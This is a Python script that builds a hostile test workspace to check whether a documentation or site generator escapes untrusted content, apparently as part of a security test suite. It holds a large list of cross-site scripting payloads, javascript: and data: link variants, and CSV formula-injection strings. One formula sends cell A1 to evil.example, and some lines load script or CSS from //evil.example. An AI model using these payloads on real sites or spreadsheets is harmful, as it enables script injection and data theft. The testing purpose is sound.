#!/usr/bin/env python3
"""Writes a workspace whose every text tries to run as script: make.py <folder of kind files> <folder to write>.

Each kind has a tame entity, whose fields are of the right types and hostile wherever text may stand, and wild ones, in
which everything is a payload. Titles, ids, file names, keys, prose, links, tables, CSV files, the kinds and rules of the
workspace itself, and bylaw.toml are hostile as well. Whatever runs calls `pwned`, which a test plants in every page.
"""
import csv
import itertools
import json
import pathlib
import sys
import tomllib

PAYLOADS = [
    "<script>pwned(1)</script>",
    "\"><img src=x onerror=pwned(2)>",
    "'><svg onload=pwned(3)>",
    "</title></textarea></style></script><script>pwned(4)</script>",
    "javascript:pwned(5)",
    " JaVa\tScRiPt:pwned(6)",
    "data:text/html,<script>pwned(7)</script>",
    "[click](javascript:pwned(8))",
    "![x](javascript:pwned(9) \"\\\" onerror=pwned(9)\")",
    "&lt;img src=x onerror=pwned(10)&gt;",
    "&#x3C;script&#x3E;pwned(11)&#x3C;/script&#x3E;",
    "--><script>pwned(12)</script><!--",
    "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">pwned(13)</script>",
    "{{ '<script>pwned(14)</script>'|safe }}{% raw %}",
    "x\" onmouseover=\"pwned(15)\" autofocus onfocus=\"pwned(15)\" tabindex=\"0",
    "x' style='animation:x' onanimationstart='pwned(16)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"pwned\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(17)>",
    "<a href=\"jav&#x09;ascript:pwned(18)\">x</a>",
    "<iframe srcdoc=\"<script>parent.pwned(19)</script>\"></iframe>",
    "<base href=\"javascript:/pwned(20)//\"><meta http-equiv=refresh content=\"0;url=javascript:pwned(20)\">",
    "\u202e<script>pwned(21)</script>\u2028\u0000",
    "`<script>pwned(22)</script>`",
    "<foreignObject><body onload=pwned(23)></foreignObject>",
    "//evil.example/pwned.js",
    "0;url=javascript:pwned(24)",
]
LINKS = [
    "javascript:pwned(30)", "JAVASCRIPT:pwned(31)", "java\nscript:pwned(32)", "&#106;avascript:pwned(33)",
    "&Tab;javascript:pwned(34)", "javascript&colon;pwned(35)", "data:text/html,<script>pwned(36)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgzNyk8L3NjcmlwdD4=", "vbscript:pwned(38)", "blob:pwned(39)",
    "view-source:javascript:pwned(40)", "%6aavascript:pwned(41)", "\\x01javascript:pwned(42)",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned(43)'/>", "feed:javascript:pwned(44)",
    "https://example.com/\"onmouseover=\"pwned(45)", "#\"onclick=\"pwned(46)", "?\"><script>pwned(47)</script>",
    "evil.html", "evil.svg", "evil.xhtml", "evil.xml", "evil.txt", "evil.csv", "evil.pdf", "evil.js", "evil", "evil.HTM",
]
RAW = [
    "<script>pwned(50)</script>", "<img src=x onerror=pwned(51)>", "<svg><script>pwned(52)</script></svg>",
    "<a name=\"x\" onclick=\"pwned(53)\">x</a>", "<a id=\"x\"onfocus=pwned(54) tabindex=0 autofocus>x</a>",
    "<br onclick=pwned(55)>", "<details open ontoggle=pwned(56)>x</details>", "<!-- > --><script>pwned(57)</script>",
    "<!--><img src=x onerror=pwned(58)>-->", "<style>@import 'javascript:pwned(59)';</style>",
    "<form action=\"javascript:pwned(60)\"><button>go</button></form>", "<object data=\"data:text/html,<script>pwned(61)</script>\">",
    "<video><source onerror=pwned(62)></video>", "<?php pwned(63) ?><script>pwned(63)</script>", "<![CDATA[<script>pwned(64)</script>]]>",
    "<input onfocus=pwned(65) autofocus>", "<marquee onstart=pwned(66)>", "<link rel=stylesheet href=\"//evil.example/pwned.css\">",
]
VIEWS = ["table", "stat", "list", "matrix", "board column=status", "timeline", "calendar", "bar", "line", "sparkline",
         "heatmap", "map", "gallery"]
FILES = {
    "evil.html": "<script>pwned(70)</script>", "evil.HTM": "<script>pwned(71)</script>",
    "evil.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwned(72)\"><script>pwned(73)</script></svg>",
    "evil.xhtml": "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>pwned(74)</script></html>",
    "evil.xml": "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">pwned(75)</x:script>",
    "evil.txt": "<script>pwned(76)</script>", "evil.pdf": "<script>pwned(77)</script>", "evil.js": "pwned(78)",
    "evil": "<html><script>pwned(79)</script></html>",
}
FILE_NAMES = ["<img src=x onerror=pwned(80)>", "\"onmouseover=\"pwned(81)", "javascript:pwned(82)", "'>{{ 7 }}", "a&b#c?d",
              "%3Cscript%3Epwned(83)"]

payloads = itertools.cycle(PAYLOADS)


def value(field, tame, names):
    """A value for a field: of its type where that says more than text."""
    kind = field["type"]
    inner = kind[kind.index("<") + 1:-1] if "<" in kind else ""
    base = kind.split("<")[0]
    if base == "list":
        return [value({**field, "type": inner}, tame, names) for _ in range(2)]
    if base == "map":
        return {next(payloads): value({**field, "type": inner}, tame, names) for _ in range(2)}
    if base == "table":
        return fields(field.get("fields", {}), tame, names)
    if not tame:
        return next(payloads)
    if base == "ref":
        return names.get(inner.split("|")[0], "tame-policy")
    return {
        "enum": inner.split("|")[0], "date": "2026-10-01", "duration": "3M", "number": "7", "percent": "7%", "bool": True,
        "money": {"amount": "7", "currency": "GBP"}, "url": "https://example.com/" + next(payloads),
        "file": "evil.csv",
    }.get(base) or next(payloads)


def fields(declared, tame, names):
    skipped = {"id", "kind", "aliases", "x"}
    return {name: value(field, tame, names) for name, field in declared.items() if name not in skipped and "key" not in field}


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode("utf-8"))


def write_csv(path, heads):
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(heads)
        for payload in PAYLOADS:
            writer.writerow([payload.replace("\0", "")] * len(heads))


def prose(depth):
    up = "../" * depth
    parts = ["# Title <script>pwned(90)</script> {#\"onclick=\"pwned(90)}"]
    parts += [f"## {number} {payload}\n\n{payload}\n\n- {payload}\n- [ ] {payload}\n\n> {payload}\n" for number, payload in enumerate(PAYLOADS)]
    parts += [f"[link {payload}](<{link}> \"{next(payloads)}\") ![{payload}]({link}) <{link}> [[{link}]] [[{link}|{payload}]] [^1]\n"
              for link, payload in zip(LINKS, itertools.cycle(PAYLOADS))]
    parts += [f"[file](<{up}files/{name}>) ![file](<{up}files/{name}>)\n" for name in FILES]
    parts += [f"words {raw} words\n\n{raw}\n\n<div>\n{raw}\n</div>\n" for raw in RAW]
    parts += ["| " + " | ".join(["Activity", *PAYLOADS[:3]]) + " |\n|---|---|---|---|\n"
              + "".join(f"| {payload.replace('|', '')} | {payload.replace('|', '')} | A | R |\n" for payload in PAYLOADS)]
    parts += [f"```{payload}\n{payload}\n```\n" for payload in PAYLOADS if "`" not in payload]
    parts += [f"[^1]: note {next(payloads)}\n"]
    return "\n\n".join(parts)


def queries():
    text = "\n".join(payload for payload in PAYLOADS if "`" not in payload and "\n" not in payload)
    literal = PAYLOADS[1].replace("'", "''")
    columns = ("id, title as label, status, '2026-10-01' as start, '2026-11-01' as \"end\", '2026-10-01' as date, '2026-10' as period, "
               f"7 as value, id as \"from\", 'tame-role' as \"to\", title as note, '{literal}' as \"{PAYLOADS[0]}\", title as \"row\", status as \"column\", "
               "description as unit, 'evil.svg' as image, title as \"group\", title as series, 'bad' as state")
    blocks = [f"```query {view} title=\"{PAYLOADS[0]}\" unit=\"{PAYLOADS[2]}\" empty=\"{PAYLOADS[0]}\"\nselect {columns} from {kind}\n```\n"
              for view in VIEWS for kind in ("policy", "role")]
    shapes = {
        "matrix": "select title as \"row\", id as \"column\", description as value from policy",
        "stat": "select title as value, description as label, title as unit, title as note from policy",
        "bar": "select title as label, 7 as value from policy",
        "line": "select '2026-10' as period, 7 as value, title as series from policy",
        "sparkline": "select title as label, '2026-10' as period, 7 as value from policy",
        "heatmap": "select title as \"row\", description as \"column\", 7 as value from policy",
        "map": "select title as \"from\", description as \"to\", title as label from policy",
        "timeline": "select title as label, '2026-10-01' as start, '2026-11-01' as \"end\", description as \"group\" from policy",
        "calendar": "select title as label, '2026-10-01' as date, description as note from policy",
        "gallery": "select id, 'evil.svg' as image, title as note from policy",
        "list": "select id, title as note from policy",
    }
    blocks += [f"```query {view} title=\"{PAYLOADS[1].replace(chr(34), '')}\"\n{sql}\n```\n" for view, sql in shapes.items()]
    return "# Queries\n\n" + "\n".join(blocks) + "\n" + text


def content(kinds, folder):
    names = {kind["kind"]["name"]: "tame-" + kind["kind"]["name"] for kind in kinds}
    for kind in kinds:
        name, plural = kind["kind"]["name"], kind["kind"].get("plural", kind["kind"]["name"] + "s")
        place = folder / kind["kind"].get("directory", plural)
        tame = {"id": names[name], "title": next(payloads), "description": next(payloads), "tags": PAYLOADS[:6],
                "x": {PAYLOADS[0]: PAYLOADS[1]}, **fields(kind.get("fields", {}), True, names)}
        wild = [{"id": f"wild-{name}-{number}", "title": payload, "status": payload, "owner": payload, "aliases": [payload],
                 PAYLOADS[0]: payload, **fields(kind.get("fields", {}), False, names)} for number, payload in enumerate(PAYLOADS[:3])]
        wild.append({"id": PAYLOADS[1], "title": PAYLOADS[0]})
        write(place / f"{names[name]}.yaml", json.dumps(tame, ensure_ascii=False))
        write(place / "wild.yaml", json.dumps(wild))
        heading = "".join(f"{key}: {json.dumps(entry, ensure_ascii=False)}\n" for key, entry in tame.items() if key not in ("id", "x"))
        write(place / f"prose-{name}.md", f"---\nid: prose-{name}\n{heading}---\n{prose(1)}")
        heads = next((field["columns"] for field in kind.get("fields", {}).values() if "columns" in field), ["period", "value"])
        write_csv(place / "evil.csv", heads)


def main():
    source, target = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
    kinds = [tomllib.loads(path.read_text()) for path in sorted(source.glob("*.toml")) if path.stem not in ("common", "page")]
    kinds = [kind for kind in kinds if "kind" in kind]
    content(kinds, target / "content")
    write(target / "content/index.md", prose(0))
    write(target / "content/CHANGELOG.md", "# Log\n\n" + "".join(
        f"## [{payload}] - 2026-10-01\n\n### {payload}\n\n- {payload} [x](javascript:pwned(91))\n\n" for payload in PAYLOADS[:16]))
    write(target / "content/guides/queries.md", queries())
    for name in FILE_NAMES:
        write(target / f"content/guides/{name}/{name}.md", prose(2))
        write(target / f"content/slas/{name}.yaml", json.dumps({"title": next(payloads)}))
    for name, text in FILES.items():
        for folder in ("content/files", "content", "content/policies", "content/guides"):
            write(target / folder / name, text)
    (target / "content/evil.csv").write_text("period,value\n=1,=2\n")
    if "--plain" in sys.argv:
        return
    write(target / "kinds/hostile.toml", "\n".join([
        "[kind]", "name = \"hostile\"", "columns = [\"id\", \"title\", \"evil\"]",
        *(f"{key} = {json.dumps(payload)}" for key, payload in zip(["label", "label_plural", "summary"], PAYLOADS)),
        "[fields.evil]", "type = \"text\"", f"label = {json.dumps(PAYLOADS[1])}", f"description = {json.dumps(PAYLOADS[0])}"]))
    write(target / "content/hostiles/one.yaml", json.dumps({"title": PAYLOADS[0], "evil": PAYLOADS[1]}))
    write(target / "rules/hostile.sql", f"-- group: hostile\n-- severity: note\n-- class: structural\n-- what: {PAYLOADS[0]}\n"
          f"-- why: {PAYLOADS[1]}\n-- instead: {PAYLOADS[2]}\nselect entity, 'title' as field, '{PAYLOADS[0]}' as message from policy\n")
    write(target / "bylaw.toml", "\n".join([
        "[portal]", f"title = {json.dumps(PAYLOADS[3])}", f"description = {json.dumps(PAYLOADS[1])}",
        "edit_url = \"https://evil.example/'><svg/onload=pwned(96)>{path}\"",
        "[rules]", *(f"{rule} = \"off\"" for rule in sys.argv[3:] if not rule.startswith("--"))]) + "\n")


main()
